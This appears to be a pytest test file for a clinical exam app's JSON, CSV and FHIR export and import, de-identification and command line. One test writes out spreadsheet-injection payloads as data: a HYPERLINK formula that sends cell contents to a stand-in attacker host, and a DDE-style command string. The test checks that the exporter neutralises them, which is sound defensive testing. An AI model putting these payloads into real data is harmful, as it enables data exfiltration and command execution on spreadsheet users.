"""Exchange: JSON, CSV and FHIR export, and importing one patient or many."""

from __future__ import annotations

import base64
import csv
import datetime as dt
import io
import json
import stat
from pathlib import Path
from typing import Any

import pytest
from fhir.resources.R4B.bundle import Bundle
from hypothesis import HealthCheck, given, settings
from pypdf import PdfReader
from strategies import record_documents
from vignettes import CASES, build_record

from core.cli import main
from core.demo import demo_record
from core.engine import assess
from core.exchange import fhir_codes
from core.exchange.csv_table import columns_markdown, csv_text, findings_from_row
from core.exchange.export import ExportFormat, ExportRequest, export
from core.exchange.fhir import bundle, clinician_pdf
from core.exchange.pseudonyms import Pseudonymiser, load_or_create_key
from core.exchange.records_file import dumps_records, parse_records, read_records
from core.knowledge import RedFlag
from core.record import PatientRecord
from core.recordio import RecordError, record_from_document
from core.settings import Settings
from core.store import Store, StoreError

ROOT = Path(__file__).resolve().parents[1]
RECORDS = [demo_record()] + [build_record(case) for case in CASES]
FINDING_SECTIONS = ("motor", "light_touch", "pin_prick", "reflexes", "plantar", "clonus",
                    "heel_walk", "toe_walk", "straight_leg_raise", "femoral_stretch",
                    "red_flags", "pain")


@pytest.fixture
def store(db_url: str) -> Store:
    opened = Store(db_url, actor="tester")
    opened.import_records(RECORDS)
    return opened


def pruned(node: Any) -> Any:
    """The document without empty objects (a side or section with nothing examined)."""
    if isinstance(node, dict):
        kept = {k: pruned(v) for k, v in node.items()}
        return {k: v for k, v in kept.items() if v != {}}
    return node


def exam_findings(document: dict[str, Any]) -> dict[str, Any]:
    """The findings of an exam document, as the CSV can hold them (red flags are a set)."""
    findings = pruned({k: v for k, v in document.items() if k in FINDING_SECTIONS})
    if "red_flags" in findings:
        findings["red_flags"] = sorted(findings["red_flags"])
    return findings


# --------------------------------------------------------------------------------------------
# JSON
# --------------------------------------------------------------------------------------------


def test_json_export_of_all_patients_imports_into_an_empty_store_unchanged(
        store: Store, tmp_path: Path) -> None:
    out = tmp_path / "all.json"
    export(store, ExportRequest(None, ExportFormat.JSON, out), Settings())
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    fresh = Store(f"sqlite:///{tmp_path / 'other.db'}")
    report = fresh.import_records(read_records(out))
    assert report.patients_created == len(RECORDS)
    for record in RECORDS:
        assert fresh.load_record(record.patient.id).to_json_dict() == record.to_json_dict()


def test_one_patient_exports_as_the_record_document_of_the_contract(store: Store,
                                                                     tmp_path: Path) -> None:
    out = tmp_path / "one.json"
    export(store, ExportRequest(["DEMO-0001"], ExportFormat.JSON, out), Settings())
    document = json.loads(out.read_text(encoding="utf-8"))
    assert document["format"] == "neuroexam.patient-record"
    assert record_from_document(document).to_json_dict() == demo_record().to_json_dict()


def test_every_problem_of_a_collection_is_listed_by_record_and_path() -> None:
    documents = [r.to_json_dict() for r in RECORDS[:3]]
    documents[1]["exams"][0]["motor"]["left"]["hip_flexion"] = "6"
    documents[2]["patient"]["id"] = documents[0]["patient"]["id"]
    text = json.dumps({"format": "neuroexam.patient-records", "format_version": 1,
                       "records": documents})
    with pytest.raises(RecordError) as caught:
        parse_records(text, "upload.json")
    paths = [p.path for p in caught.value.problems]
    assert "records[1].exams[0].motor.left.hip_flexion" in paths
    assert "records[2].patient.id" in paths
    assert "upload.json" in str(caught.value) and '"4+"' in str(caught.value)


@pytest.mark.parametrize(("content", "expected"), [
    ("[1, 2", "not JSON (line 1, column 6)"),
    ('{"format": "something-else"}', "expected 'neuroexam.patient-record'"),
    ('{"format": "neuroexam.patient-records", "format_version": 7, "records": []}',
     "collection version 7"),
    ('{"format": "neuroexam.patient-record", "format_version": 2, "patient": {}}',
     "written by a newer NeuroExam"),
])
def test_unreadable_files_are_refused_with_a_clear_message(content: str, expected: str) -> None:
    with pytest.raises(RecordError, match=expected.replace("(", r"\(").replace(")", r"\)")):
        parse_records(content)


def test_a_file_over_the_size_limit_is_refused_before_it_is_read(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("core.exchange.records_file.MAX_FILE_BYTES", 1000)
    big = tmp_path / "big.json"
    big.write_text(json.dumps(json.loads(dumps_records(RECORDS)), indent=2), encoding="utf-8")
    with pytest.raises(RecordError, match="read whole, and those larger than 0 MiB are refused"):
        read_records(big)
    # the layout NeuroExam writes, one record per line, is read line by line without that limit
    streamed = tmp_path / "streamed.json"
    streamed.write_text(dumps_records(RECORDS), encoding="utf-8")
    seen: list[int] = []
    assert [r.patient.id for r in read_records(streamed, lambda n, _: seen.append(n))] == [
        r.patient.id for r in RECORDS]
    assert seen == list(range(1, len(RECORDS) + 1))


def test_a_damaged_line_of_a_streamed_collection_is_named_by_its_index(tmp_path: Path) -> None:
    lines = dumps_records(RECORDS).splitlines()
    lines[3] = lines[3].replace('"hip_flexion":"5"', '"hip_flexion":"7"', 1)
    damaged = tmp_path / "damaged.json"
    damaged.write_text("\n".join(lines) + "\n", encoding="utf-8")
    with pytest.raises(RecordError, match=r"records\[2\]\.exams\[\d\]\.motor\.\w+\.hip_flexion"):
        read_records(damaged)


def test_a_streamed_import_with_a_damaged_last_line_stores_nothing(tmp_path: Path,
                                                                   db_url: str) -> None:
    """The import stores batches as the file is read; a problem found at its end takes back
    everything (one transaction), and every problem is named."""
    from core.exchange.records_file import stream_records
    from core.store.imports import IMPORT_BATCH

    template = RECORDS[1]
    many = [template.model_copy(update={"patient": template.patient.model_copy(
        update={"id": f"MRN-{n:05d}"})}) for n in range(IMPORT_BATCH + 5)]
    lines = dumps_records(many).splitlines()
    lines[-2] = lines[-2].replace('"date":"', '"date":"not-', 1)
    damaged = tmp_path / "damaged.json"
    damaged.write_text("\n".join(lines) + "\n", encoding="utf-8")
    target = Store(db_url)
    with pytest.raises(RecordError, match=rf"records\[{IMPORT_BATCH + 4}\]\."):
        target.import_records(stream_records(damaged))
    assert target.count_patients() == 0
    whole = tmp_path / "whole.json"
    whole.write_text(dumps_records(many), encoding="utf-8")
    report = target.import_records(stream_records(whole))
    assert (report.records, report.patients_created) == (len(many), len(many))
    assert target.load_record(f"MRN-{IMPORT_BATCH + 4:05d}") == many[-1]
    target.close()


def test_a_conflict_in_the_last_record_writes_nothing_and_shows_the_difference(
        tmp_path: Path) -> None:
    target = Store(f"sqlite:///{tmp_path / 'clinic.db'}")
    target.import_records([demo_record()])
    changed = demo_record()
    changed.exams[1].notes = "edited elsewhere"
    with pytest.raises(StoreError) as caught:
        target.import_records([RECORDS[1], RECORDS[2], changed])
    message = str(caught.value)
    assert "exam post-1" in message and 'notes: stored' in message and '"edited elsewhere"' in message
    assert target.patient_ids() == ["DEMO-0001"]


def test_different_demographics_for_a_stored_patient_are_refused(store: Store) -> None:
    renamed = demo_record()
    renamed.patient.family_name = "Other"
    with pytest.raises(StoreError, match='family_name: stored "Demo", imported "Other"'):
        store.import_records([renamed])


def test_import_reports_exams_already_present_without_duplicating(store: Store) -> None:
    report = store.import_records(RECORDS)
    assert report.patients_created == 0 and report.exams_added == 0
    assert "exam post-1" in report.already
    assert len(store.load_record("DEMO-0001").exams) == 3


# --------------------------------------------------------------------------------------------
# CSV
# --------------------------------------------------------------------------------------------


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def test_csv_columns_are_documented_and_the_page_is_current() -> None:
    page = (ROOT / "docs" / "csv-columns.md").read_text(encoding="utf-8")
    assert page == columns_markdown(), "run `make docs`"
    header = rows_of(csv_text(RECORDS))[0].keys()
    assert all(f"| `{name}` |" in page for name in header)


def test_each_csv_row_reads_back_into_the_exam_it_came_from() -> None:
    rows = rows_of(csv_text(RECORDS))
    exams = [(record, exam) for record in RECORDS for exam in record.exams_by_date()]
    assert len(rows) == len(exams)
    for row, (record, exam) in zip(rows, exams, strict=True):
        assert (row["patient_id"], row["exam_id"]) == (record.patient.id, exam.id)
        assert exam_findings(findings_from_row(row)) == exam_findings(exam.model_dump(mode="json",
                                                                       exclude_none=True))
        assessment = assess(record, exam.id).as_dict()
        assert row["triage_level"] == assessment["triage"]["level"]
        assert row["lems.total"] == str(assessment["lems"]["total"])


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(record_documents())
def test_csv_reads_back_for_any_valid_record(document: dict[str, Any]) -> None:
    record = record_from_document(document)
    rows = rows_of(csv_text([record]))
    for row, exam in zip(rows, record.exams_by_date(), strict=True):
        assert exam_findings(findings_from_row(row)) == exam_findings(exam.model_dump(mode="json",
                                                                       exclude_none=True))


def test_deidentified_csv_has_no_name_birth_date_record_id_or_exam_id() -> None:
    record = demo_record()
    text = csv_text([record], Pseudonymiser(b"k" * 32))
    for secret in (record.patient.family_name, record.patient.given_name,
                   record.patient.birth_date.isoformat(), record.patient.id,
                   *(exam.id for exam in record.exams), record.exams[0].examiner):
        assert secret not in text
    row = rows_of(text)[0]
    assert row["birth_year"] == "1978" and "family_name" not in row and "notes" not in row
    assert row["patient_id"].startswith("P-")


@pytest.mark.parametrize("deidentified", [False, True], ids=["identified", "de-identified"])
def test_text_a_spreadsheet_would_run_as_a_formula_is_neutralised(deidentified: bool) -> None:
    document = demo_record().to_json_dict()
    document["patient"]["family_name"] = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    document["patient"]["given_name"] = "+Anna"
    document["exams"][0]["examiner"] = "-2+3"
    document["exams"][0]["notes"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    document["surgeries"][0]["procedure"] = "\tmicrodiscectomy"
    record = record_from_document(document)
    text = csv_text([record], Pseudonymiser(b"k" * 32) if deidentified else None)
    for row in rows_of(text):
        for name, cell in row.items():
            if name not in ("days_since_surgery",):
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    first = rows_of(text)[0]
    if not deidentified:
        assert first["family_name"] == "'" + document["patient"]["family_name"]
        assert first["given_name"] == "'+Anna" and first["examiner"] == "'-2+3"
        assert first["notes"] == "'" + document["exams"][0]["notes"]
    # every field is quoted, so a cell cannot spill into its neighbours
    assert text.removeprefix("\ufeff").startswith('"patient_id","')


def test_negative_day_counts_stay_numbers() -> None:
    rows = rows_of(csv_text([demo_record()]))
    assert rows[0]["days_since_surgery"].startswith("-")
    assert int(rows[0]["days_since_surgery"]) < 0


def test_deidentified_dates_move_by_one_keyed_offset_per_patient_keeping_intervals() -> None:
    keyed = Pseudonymiser(b"k" * 32)
    plain, shifted = rows_of(csv_text(RECORDS)), rows_of(csv_text(RECORDS, keyed))
    offsets: dict[str, set[int]] = {}
    for before, after in zip(plain, shifted, strict=True):
        moved = (dt.date.fromisoformat(after["exam_date"])
                 - dt.date.fromisoformat(before["exam_date"])).days
        offsets.setdefault(before["patient_id"], set()).add(moved)
        assert after["days_since_surgery"] == before["days_since_surgery"]
        if before["surgery_date"]:
            assert (dt.date.fromisoformat(after["surgery_date"])
                    - dt.date.fromisoformat(before["surgery_date"])).days == moved
    assert all(len(found) == 1 for found in offsets.values())
    shifts = {found.pop() for found in offsets.values()}
    assert 0 not in shifts and all(abs(s) <= 365 for s in shifts)
    assert len(shifts) > 1, "patients must not share one offset"
    for record in RECORDS:
        assert keyed.day_shift(record.patient.id) == Pseudonymiser(b"k" * 32).day_shift(
            record.patient.id)
    assert any(keyed.day_shift(r.patient.id) != Pseudonymiser(b"j" * 32).day_shift(r.patient.id)
               for r in RECORDS)
    text = csv_text([demo_record()], keyed)
    assert all(exam.date.isoformat() not in text for exam in demo_record().exams)


def expected_columns(pinned: list[str]) -> list[str]:
    """The pinned columns, with the two columns of each per-side test the catalogue has and the
    pinned list lacks after the pinned per-side tests (as the CSV writes a test added to the end
    of the catalogue): a new test needs no change here, any other change to the header fails."""
    from core.exam_items import SIDE_TESTS

    tests = [f"{t.field}.{side}" for t in SIDE_TESTS for side in ("left", "right")]
    after = max(i for i, name in enumerate(pinned) if name in tests) + 1
    return pinned[:after] + [c for c in tests if c not in pinned] + pinned[after:]


def test_the_deidentified_column_order_is_the_documented_stable_one() -> None:
    pinned = (ROOT / "tests" / "data" / "deidentified-columns.txt").read_text(
        encoding="utf-8").split()
    header = next(csv.reader(io.StringIO(csv_text([], Pseudonymiser(b"k" * 32)).removeprefix(
        "\ufeff"))))
    assert header == expected_columns(pinned)
    page = (ROOT / "docs" / "csv-columns.md").read_text(encoding="utf-8")
    positions = [page.index(f"| `{name}` |") for name in header]
    assert positions == sorted(positions)


def test_pseudonyms_are_stable_for_a_key_and_differ_between_keys() -> None:
    one, again, other = Pseudonymiser(b"a" * 32), Pseudonymiser(b"a" * 32), Pseudonymiser(b"b" * 32)
    assert one.pseudonym("MRN-1") == again.pseudonym("MRN-1") != other.pseudonym("MRN-1")
    assert one.pseudonym("MRN-1") != one.pseudonym("MRN-2")


def test_the_clinic_key_is_created_once_private_and_reused(tmp_path: Path) -> None:
    path = tmp_path / "keys" / "pseudonym.key"
    first = load_or_create_key(path)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600 and len(first) == 32
    assert load_or_create_key(path) == first


def test_a_pseudonym_leads_back_to_the_patient_with_the_key(
        store: Store, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "registry.csv"
    database = ["--database", store.url]
    assert main(["export", "--all", "--format", "csv", "--deidentify", "--out", str(out),
                 *database]) == 0
    pseudonym = rows_of(out.read_text(encoding="utf-8"))[0]["patient_id"]
    capsys.readouterr()
    assert main(["reidentify", pseudonym, *database]) == 0
    assert capsys.readouterr().out.split() == [pseudonym, "DEMO-0001"]


def test_deidentifying_is_refused_for_json_and_fhir(store: Store, tmp_path: Path) -> None:
    code = main(["export", "--all", "--format", "fhir", "--deidentify", "--out",
                 str(tmp_path / "x.json"), "--database", store.url])
    assert code == 2 and not (tmp_path / "x.json").exists()


# --------------------------------------------------------------------------------------------
# FHIR
# --------------------------------------------------------------------------------------------


def resources(document: dict[str, Any], kind: str) -> list[dict[str, Any]]:
    return [e["resource"] for e in document["entry"] if e["resource"]["resourceType"] == kind]


def own_codes() -> set[tuple[str, str]]:
    codes = set()
    for name in (ROOT / "docs" / "fhir").glob("CodeSystem-*.json"):
        published = json.loads(name.read_text(encoding="utf-8"))
        codes |= {(published["url"], c["code"]) for c in published["concept"]}
    return codes


def codings(node: Any) -> list[dict[str, Any]]:
    if isinstance(node, dict):
        found = [node] if {"system", "code"} <= node.keys() else []
        return found + [c for value in node.values() for c in codings(value)]
    if isinstance(node, list):
        return [c for value in node for c in codings(value)]
    return []


def test_the_published_code_systems_are_current() -> None:
    folder = ROOT / "docs" / "fhir"
    expected = fhir_codes.published_files()
    assert {p.name for p in folder.glob("CodeSystem-*.json")} == set(expected), "run `make docs`"
    for name, content in expected.items():
        assert (folder / name).read_text(encoding="utf-8") == content, "run `make docs`"


def test_the_demo_bundle_validates_and_carries_every_finding() -> None:
    record = demo_record()
    document = bundle([record], clinician_pdf(Settings(), deterministic=True))
    Bundle.model_validate(document)
    observations = resources(document, "Observation")
    exam = record.exam("post-1")
    assert exam is not None
    post = [o for o in observations if o["effectiveDateTime"] == exam.date.isoformat()]
    motor = [o for o in post if o["code"]["coding"][0]["code"] == "motor.great_toe_extension"]
    left = next(o for o in motor if o["bodySite"]["text"].endswith("left"))
    assert left["valueCodeableConcept"]["coding"][0]["code"] == "1"
    assert left["bodySite"]["extension"][0]["valueCodeableConcept"]["coding"][0] == {
        "system": "http://snomed.info/sct", "code": "419161000", "display": "Unilateral left"}
    patellar = next(o for o in post if "reflex.patellar" in [c["code"] for c in o["code"]["coding"]])
    assert {"system": "http://loinc.org", "code": "32392-3",
            "display": "Deep tendon reflex of Patella"} in patellar["code"]["coding"]
    assert len(resources(document, "Procedure")) == 1
    assert resources(document, "Patient")[0]["identifier"][0]["value"] == "DEMO-0001"


def test_each_report_carries_the_assessment_and_the_clinician_pdf() -> None:
    document = bundle([demo_record()], clinician_pdf(Settings(), deterministic=True))
    reports = resources(document, "DiagnosticReport")
    assert len(reports) == 3
    post = next(r for r in reports if r["identifier"][-1]["value"] == "post-1")
    level = assess(demo_record(), "post-1").triage.level.label
    assert post["conclusionCode"][0]["coding"][0]["code"] == level
    assert "decision-support aid" in post["conclusion"]
    pdf = base64.b64decode(post["presentedForm"][0]["data"])
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages)
    assert "DEMO-0001" in text and "Exam 2026-03-09 (postoperative)" in text
    observation_ids = {e["fullUrl"] for e in document["entry"]
                       if e["resource"]["resourceType"] == "Observation"}
    assert {r["reference"] for r in post["result"]} <= observation_ids


def test_not_testable_findings_say_why_instead_of_a_value() -> None:
    document = demo_record().to_json_dict()
    document["exams"][0]["motor"]["left"]["great_toe_extension"] = "NT"
    document["exams"][0]["nt_reasons"] = {"motor.left.great_toe_extension": "pain"}
    exported = bundle([record_from_document(document)])
    absent = [o for o in resources(exported, "Observation") if "dataAbsentReason" in o]
    assert len(absent) == 1
    assert not any(key.startswith("value") for key in absent[0])
    assert absent[0]["dataAbsentReason"]["coding"][0]["code"] == "not-performed"
    assert absent[0]["note"] == [{"text": "Not testable: pain"}]
    assert absent[0]["extension"][0]["valueCoding"]["code"] == "pain"


@pytest.mark.parametrize("record", RECORDS, ids=lambda r: r.patient.id)
def test_every_vignette_bundle_validates_with_only_published_or_verified_codes(
        record: PatientRecord) -> None:
    document = bundle([record])
    Bundle.model_validate(document)
    published = own_codes()
    verified = {("http://loinc.org", "32392-3"), ("http://loinc.org", "72514-3"),
                ("http://snomed.info/sct", "419161000"), ("http://snomed.info/sct", "419465000"),
                ("http://terminology.hl7.org/CodeSystem/observation-category", "exam"),
                ("http://terminology.hl7.org/CodeSystem/data-absent-reason", "not-performed"),
                ("http://terminology.hl7.org/CodeSystem/v2-0203", "MR"),
                ("http://terminology.hl7.org/CodeSystem/v2-0074", "PHY"),
                ("http://unitsofmeasure.org", "deg")}
    found = codings(document)
    used = {(c["system"], c["code"]) for c in found}
    assert used <= published | verified
    assert all(c.get("display") for c in found if c["system"] != "http://unitsofmeasure.org")
    assert not any(c["system"].startswith("urn:") for c in found)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(record_documents())
def test_any_valid_record_gives_a_valid_bundle(document: dict[str, Any]) -> None:
    record = record_from_document(document)
    exported = bundle([record])
    Bundle.model_validate(exported)
    assert len(resources(exported, "Observation")) == sum(
        expected_observations(exam) for exam in document["exams"])
    assert len(resources(exported, "DiagnosticReport")) == len(document["exams"])


def expected_observations(exam: dict[str, Any]) -> int:
    """One observation per item and side, per red flag when asked, per pain score."""
    count = 0
    for section in FINDING_SECTIONS[:10]:
        for value in exam.get(section, {}).values():
            count += len(value) if isinstance(value, dict) else 1
    count += len(RedFlag) if "red_flags" in exam else 0
    return count + len(exam.get("pain", {}))


# --------------------------------------------------------------------------------------------
# Command line
# --------------------------------------------------------------------------------------------


def test_cli_imports_many_patients_and_reports_a_damaged_file_by_path(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    url = f"sqlite:///{tmp_path / 'cli.db'}"
    good, bad = tmp_path / "many.json", tmp_path / "bad.json"
    good.write_text(dumps_records(RECORDS), encoding="utf-8")
    damaged = json.loads(good.read_text(encoding="utf-8"))
    damaged["records"][2]["exams"][0]["reflexes"]["left"]["achilles"] = 7
    bad.write_text(json.dumps(damaged), encoding="utf-8")
    assert main(["import", str(bad), "--database", url]) == 1
    assert "records[2].exams[0].reflexes.left.achilles" in capsys.readouterr().err
    assert Store(url).count_patients() == 0
    assert main(["import", str(good), "--database", url]) == 0
    assert f"{len(RECORDS)} new patients" in capsys.readouterr().out


@pytest.mark.parametrize("kind", ["json", "csv", "fhir"])
def test_cli_exports_each_format_privately_and_audits_it(store: Store, tmp_path: Path,
                                                         kind: str) -> None:
    out = tmp_path / f"export.{kind}"
    assert main(["export", "--patient", "DEMO-0001", "--format", kind, "--out", str(out),
                 "--database", store.url]) == 0
    assert stat.S_IMODE(out.stat().st_mode) == 0o600 and out.stat().st_size > 0
    actions = [entry["action"] for entry in store.audit_entries("DEMO-0001")]
    assert actions[-1] == "record_exported"


def test_a_key_file_that_is_a_symbolic_link_is_refused(tmp_path: Path) -> None:
    planted = tmp_path / "attacker.key"
    planted.write_bytes(b"k" * 32)  # a key someone else knows
    link = tmp_path / "pseudonym.key"
    link.symlink_to(planted)
    with pytest.raises(ValueError, match="not a regular file"):
        load_or_create_key(link)
    dangling = tmp_path / "dangling.key"
    dangling.symlink_to(tmp_path / "nothing-here")
    with pytest.raises(ValueError, match="not a regular file"):
        load_or_create_key(dangling)
    assert not (tmp_path / "nothing-here").exists()
